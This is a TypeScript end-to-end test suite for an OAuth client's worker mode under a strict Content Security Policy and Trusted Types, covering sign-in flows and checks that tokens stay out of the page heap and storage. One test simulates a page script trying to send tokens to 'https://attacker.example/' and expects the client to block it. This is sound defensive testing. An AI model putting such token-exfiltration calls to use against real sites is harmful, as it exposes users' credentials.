// Worker mode in a built app that uses the published packages, with the strictest Content Security Policy and Trusted Types.
import { readFile } from 'node:fs/promises'
import { extname, join } from 'node:path'
import { fileURLToPath } from 'node:url'
import type { Browser, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { build } from 'vite'
import { launchChromium, press, sees, visit, type Visitor } from '../harness/browser.js'
import { startEmbeddedServer, type EmbeddedServer } from '../harness/embedded-server.js'
import { listen, type Loopback } from '../harness/loopback.js'
import { startProtectedApi, type ProtectedApi } from '../harness/protected-api.js'
import { alice } from '../harness/users.js'

const built = fileURLToPath(new URL('../../test-results/e2e-worker-app', import.meta.url))
const TYPES: Readonly<Record<string, string>> = { '.html': 'text/html', '.js': 'text/javascript', '.ts': 'text/javascript' }

let browser: Browser
beforeAll(async () => {
  await build({
    root: fileURLToPath(new URL('./worker-app', import.meta.url)),
    configFile: false,
    logLevel: 'error',
    worker: { format: 'es' },
    build: { outDir: built, emptyOutDir: true },
  })
  browser = await launchChromium()
})
afterAll(() => browser.close())

describe('worker mode under a strict Content Security Policy and Trusted Types', () => {
  let host: Loopback
  let origin: string
  let server: EmbeddedServer
  let api: ProtectedApi
  let visitor: Visitor
  let page: Page
  let settings: Record<string, unknown>
  const violations: string[] = []

  beforeEach(() => open('localhost'))
  afterEach(close)

  async function open(hostname: string): Promise<void> {
    host = await listen()
    origin = `http://${hostname}:${host.port}`
    server = await startEmbeddedServer({ origin, redirectUris: [`${origin}/`], postLogoutRedirectUris: [`${origin}/`] })
    api = await startProtectedApi(origin, (accessToken) => server.claimsOf(accessToken))
    settings = { issuer: server.issuer, api: api.url }
    serveApp(host, server.issuer, new URL(api.url).origin, () => settings)
    visitor = await visit(browser, 'about:blank')
    page = visitor.page
    violations.length = 0
    await visitor.context.exposeFunction('reportViolation', (directive: string) => violations.push(directive))
    await visitor.context.addInitScript(() => {
      const { reportViolation } = window as unknown as { readonly reportViolation: (directive: string) => void }
      document.addEventListener('securitypolicyviolation', (event) => reportViolation(event.effectiveDirective))
    })
    await page.goto(origin)
    await sees(page, 'status', 'signed-out')
  }

  async function close(): Promise<void> {
    await visitor.context.close()
    await Promise.all([host.close(), server.close(), api.close()])
    expect(visitor.unhandled).toEqual([])
    expect(violations).toEqual([])
  }

  async function signIn(): Promise<void> {
    await press(page, 'Sign in')
    await page.click(server.pages.userButton(alice))
    await sees(page, 'status', 'signed-in')
  }

  it('signs in by redirect, calls the API and signs out at the server', async () => {
    await signIn()
    await sees(page, 'name', alice.name)
    expect(page.url()).toBe(`${origin}/`)
    await press(page, 'Call the API')
    await sees(page, 'result', `200 {"sub":"${alice.sub}"}`)
    const navigation = page.waitForRequest((request) => request.isNavigationRequest() && request.url().startsWith(server.issuer))
    await press(page, 'Sign out')
    const parameters = new URL((await navigation).url()).searchParams
    expect(parameters.get('client_id')).toBe('spa')
    expect(parameters.has('id_token_hint')).toBe(false)
  })

  it('signs in by popup', async () => {
    const opened = page.waitForEvent('popup')
    await press(page, 'Sign in by popup')
    const popup = await opened
    await Promise.all([popup.waitForEvent('close'), popup.click(server.pages.userButton(alice))])
    await sees(page, 'name', alice.name)
    await press(page, 'Call the API')
    await sees(page, 'result', `200 {"sub":"${alice.sub}"}`)
  })

  it('signs in silently after a reload, which ends the worker’s session', async () => {
    await close()
    // On the server's own site, because its cookie is not sent in a cross-site frame.
    await open('127.0.0.1')
    await signIn()
    await page.reload()
    await sees(page, 'status', 'signed-out')
    settings = { ...settings, silent: ['iframe'] }
    await page.reload()
    await sees(page, 'name', alice.name)
  })

  it('leaves no token in the memory of the page, nor in its storages', async () => {
    const tokens: string[] = []
    server.dials.onResponse = async (response, request) => {
      if (new URL(request.url).pathname === '/token' && response.ok) {
        const body = (await response.clone().json()) as Readonly<Record<string, string>>
        tokens.push(body['access_token'] ?? '', body['refresh_token'] ?? '', body['id_token'] ?? '')
      }
      return response
    }
    await signIn()
    await press(page, 'Call the API')
    await sees(page, 'result', `200 {"sub":"${alice.sub}"}`)
    expect(tokens.map((token) => token.length > 20)).toEqual([true, true, true])
    expect(api.calls).toEqual([`Bearer ${tokens[0]}`])
    const memory = await heapOf(page)
    // The name is found, so a token would be found as well.
    expect(memory).toContain(alice.name)
    // Only the signature identifies a JSON Web Token: the page may know its claims.
    for (const token of tokens) expect(memory).not.toContain(token.split('.').at(-1))
    const storages = await page.evaluate(() => JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage)]))
    for (const token of tokens) expect(storages).not.toContain(token)
  })

  it('does not let a script of the page send the token elsewhere', async () => {
    await signIn()
    const attempts = await page.evaluate(
      async ({ issuer }) => {
        const { client } = window as unknown as {
          client: {
            fetch(url: string): Promise<Response>
            getAccessToken(): Promise<string>
            getTokenSet(): { accessToken: string }
          }
        }
        const codeOf = (error: unknown): string => (error as { code: string }).code
        return [
          await client.fetch('https://attacker.example/').catch(codeOf),
          await client.fetch(`${issuer}/collect`).catch(codeOf),
          await client.getAccessToken().catch(codeOf),
          client.getTokenSet().accessToken,
        ]
      },
      { issuer: server.issuer },
    )
    expect(attempts).toEqual(['resource_not_allowed', 'resource_not_allowed', 'unsupported', ''])
    expect(api.calls).toEqual([])
  })

  it('cannot start a worker from another script, so the policy is in force', async () => {
    const failure = await page.evaluate(() => {
      try {
        new Worker('/other.js').terminate()
        return 'started'
      } catch (error) {
        return (error as Error).name
      }
    })
    expect(failure).toBe('TypeError')
    await expect.poll(() => violations.splice(0)).toEqual(['require-trusted-types-for'])
  })
})

function serveApp(host: Loopback, issuer: string, api: string, settings: () => unknown): void {
  const policy = [
    "default-src 'none'",
    "script-src 'self'",
    "worker-src 'self'",
    `connect-src ${issuer} ${api}`,
    `frame-src 'self' ${issuer}`,
    'img-src data:',
    "base-uri 'none'",
    "form-action 'none'",
    "require-trusted-types-for 'script'",
    'trusted-types oauth-worker',
  ].join('; ')
  host.serve((request, response) => {
    const { pathname } = new URL(request.url ?? '/', 'http://localhost')
    const path = extname(pathname) === '' ? 'index.html' : pathname
    const headers = { 'content-type': TYPES[extname(path)] ?? 'text/plain', 'content-security-policy': policy }
    const content = JSON.stringify(settings()).replaceAll('"', '&quot;')
    const meta = `<meta name="settings" content="${content}"></head>`
    readFile(join(built, path), 'utf8').then(
      (text) => response.writeHead(200, headers).end(text.replace('</head>', meta)),
      () => response.writeHead(404, headers).end(),
    )
  })
}

/** Returns every string of the page's thread, without the worker's. */
async function heapOf(page: Page): Promise<string> {
  const session = await page.context().newCDPSession(page)
  const chunks: string[] = []
  session.on('HeapProfiler.addHeapSnapshotChunk', ({ chunk }) => chunks.push(chunk))
  await session.send('HeapProfiler.takeHeapSnapshot')
  await session.detach()
  return chunks.join('')
}
